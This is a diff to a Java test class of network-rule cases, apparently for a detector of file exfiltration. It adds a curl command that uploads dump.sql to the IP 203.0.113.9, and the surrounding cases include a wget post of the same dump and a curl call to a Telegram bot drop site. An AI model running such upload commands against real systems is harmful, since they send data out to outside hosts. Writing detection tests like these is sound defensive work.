@@ -107,6 +107,8 @@ final class NetworkRuleCases {
                         exec(tool("/usr/bin/curl", "-fsS http://localhost:8080/health"))),
                 of("File uploaded by a transfer tool", exec(typed("/usr/bin/wget", "--post-file=dump.sql http://203.0.113.9/")),
                         exec(scripted("/usr/bin/curl", "-F file=@report.csv http://reports.shop.svc/"))),
+                of("File uploaded by a transfer tool", exec(tool("/usr/bin/curl", "-d @dump.sql http://203.0.113.9/")),
+                        exec(tool("/usr/bin/wget", "-T 1 -O - http://203.0.113.9/"))),
                 of("Anonymous drop site named on a command line",
                         exec(tool("/usr/bin/curl", "https://api.telegram.org/bot1:x/sendMessage")),
                         exec(tool("/usr/bin/curl", "https://api.shop.example/botany"))),
